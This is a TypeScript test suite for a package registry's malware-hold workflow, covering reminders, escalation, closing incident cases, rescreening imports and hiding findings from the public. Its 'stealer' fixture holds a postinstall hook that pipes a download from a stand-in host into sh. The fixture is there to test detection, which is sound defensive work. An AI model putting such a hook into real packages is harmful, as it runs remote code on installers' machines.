// SPDX-License-Identifier: Apache-2.0
/** What happens when nobody decides about a hold: it stays closed, and is not quiet about it. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parsePackageName, parseVersion } from '@holdfast/core'
import { decideHold, importVersions, remindOfHolds, rescreen } from '../../src/flow/index.ts'
import { operator } from '../../src/identity/index.ts'
import { packPackage } from '../fixture/tarball.ts'
import { publishDocument } from '../live.ts'
import { openWorld, type Someone, type World } from '../world.ts'

const hourMs = 3600_000
const stealer = { scripts: { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' } }

let world: World
let alice: Someone
let rae: Someone

before(async () => {
  world = await openWorld()
  alice = await world.someone('alice')
  rae = await world.someone('rae', ['responder'])
})

after(async () => {
  assert.deepEqual(world.errors, [])
  await world.check()
  await world.close()
})

const subjects = async (who: Someone) =>
  (await world.ports.store.mail.listRecent(50))
    .filter(({ to }) => to === who.email)
    .map(({ subject }) => subject)
const undecided = async () =>
  (await world.ports.store.incident.listCases(Number.MAX_SAFE_INTEGER, 10)).filter(
    each => each.kind === 'hold-undecided' && each.state !== 'closed',
  )

test('a hold is reminded of at four hours, escalated after a day, each once, and stays closed for ever', async () => {
  for (const version of ['1.0.0', '1.0.1']) {
    const body = publishDocument('waiting', version, { manifest: stealer })
    assert.equal((await world.npm('PUT /waiting', { token: alice.token, body })).status, 201)
  }
  const reminded = async () => (await subjects(rae)).filter(each => /for more than/.test(each)).length
  world.advance(3 * hourMs)
  await remindOfHolds(world.ports)
  assert.equal(await reminded(), 0)
  world.advance(2 * hourMs)
  await Promise.all([remindOfHolds(world.ports), remindOfHolds(world.ports)])
  await remindOfHolds(world.ports)
  assert.equal(await reminded(), 1, 'one letter for both versions, whoever sends it')
  const { cookie } = await world.browse(rae)
  assert.match((await world.ask('GET /operate/holds', { headers: { cookie } })).text, /late<\/span> <time/)
  world.advance(20 * hourMs)
  await remindOfHolds(world.ports)
  await remindOfHolds(world.ports)
  assert.equal(await reminded(), 2)
  assert.equal((await undecided()).length, 1)
  assert.ok((await subjects(alice)).some(each => each.startsWith('waiting@1.0.0, waiting@1.0.1 still waits')))
  const later = await world.browse(rae)
  const page = await world.ask('GET /operate/holds', { headers: { cookie: later.cookie } })
  assert.match(page.text, /late, a case<\/span> <time[\s\S]*Everything was screened by the rules in force/)
  world.advance(400 * 24 * hourMs)
  await remindOfHolds(world.ports)
  assert.equal(await reminded(), 2)
  assert.equal((await world.npm('GET /waiting/-/waiting-1.0.0.tgz')).status, 403)
})

test('with the last decision the case that nobody decided is closed', async () => {
  const decide = (version: string) =>
    decideHold(
      world.ports,
      operator,
      'release',
      { name: parsePackageName('waiting'), version: parseVersion(version) },
      'harmless',
    )
  await decide('1.0.0')
  assert.equal((await undecided()).length, 1)
  await decide('1.0.1')
  assert.deepEqual(await undecided(), [])
  assert.equal((await world.npm('GET /waiting/-/waiting-1.0.1.tgz')).status, 200)
})

test('whoever and whatever tells of a package joins its open case, which no decision about a hold alone closes', async () => {
  const put = async (version: string) => {
    const body = publishDocument('shared', version, { manifest: stealer })
    assert.equal((await world.npm('PUT /shared', { token: alice.token, body })).status, 201)
  }
  const open = async () =>
    (await world.ports.store.incident.listCases(Number.MAX_SAFE_INTEGER, 50)).filter(
      each => each.state !== 'closed' && /shared/.test(each.title),
    )
  const report = (kind: string) =>
    world.ask('POST /api/v1/reports', { token: rae.token, body: { package: 'shared', kind, words: 'look' } })
  const subject = (version: string) => ({ name: parsePackageName('shared'), version: parseVersion(version) })
  await put('1.0.0')
  await put('1.0.1')
  world.advance(25 * hourMs)
  await remindOfHolds(world.ports)
  const [first] = await open()
  assert.deepEqual([first?.kind, first?.severity], ['hold-undecided', 'high'])
  assert.equal((await report('spam')).status, 201)
  const joined = await open()
  assert.deepEqual(
    joined.map(each => [each.id, each.kind, each.title, each.severity]),
    [[first?.id, 'report', 'shared is reported', 'high']],
  )
  await decideHold(world.ports, operator, 'release', subject('1.0.0'), 'harmless')
  await decideHold(world.ports, operator, 'confirm', subject('1.0.1'), 'steals')
  const last = await open()
  assert.deepEqual(
    last.map(each => [each.id, each.kind, each.severity]),
    [[first?.id, 'report', 'critical']],
  )
  const lines = (await world.ports.store.incident.findCase(first?.id ?? ''))?.timeline.length ?? 0
  assert.ok(lines >= 3, `${lines} lines`)
})

test('what an import brings is screened after it, and what is young and bad is closed', async () => {
  async function* arrivals() {
    for (const [name, manifest] of [
      ['brought', {}],
      ['brought-bad', stealer],
    ] as const)
      yield {
        source: name,
        publishedAt: world.now(),
        async *read() {
          yield packPackage({ name, version: '1.0.0', ...manifest })
        },
      }
  }
  const wishes = { access: 'public', hostNames: false } as const
  for await (const each of importVersions(world.ports, operator, arrivals(), wishes))
    assert.equal(each.kind, 'imported')
  await rescreen(world.ports)
  const found = async (name: string) => {
    const row = await world.ports.store.screening.find(parsePackageName(name), parseVersion('1.0.0'))
    return [row?.state, row?.hold, (await world.npm(`GET /${name}/-/${name}-1.0.0.tgz`)).status]
  }
  assert.deepEqual(await found('brought'), ['allow', 'none', 200])
  assert.deepEqual(await found('brought-bad'), ['hold', 'open', 403])
})

test('what everybody reads of a held version is general: findings are for those who respond', async () => {
  const body = publishDocument('general', '1.0.0', { manifest: stealer })
  assert.equal((await world.npm('PUT /general', { token: alice.token, body })).status, 201)
  const said = [
    await world.npm('GET /general/-/general-1.0.0.tgz'),
    await world.npm('GET /general', { token: alice.token }),
    await world.ask('GET /package/npm/general'),
    await world.ask('GET /api/v1/why/npm/general/1.0.0', { token: alice.token }),
  ]
  for (const { text } of said) assert.doesNotMatch(text, /collector|download-run|curl/)
})
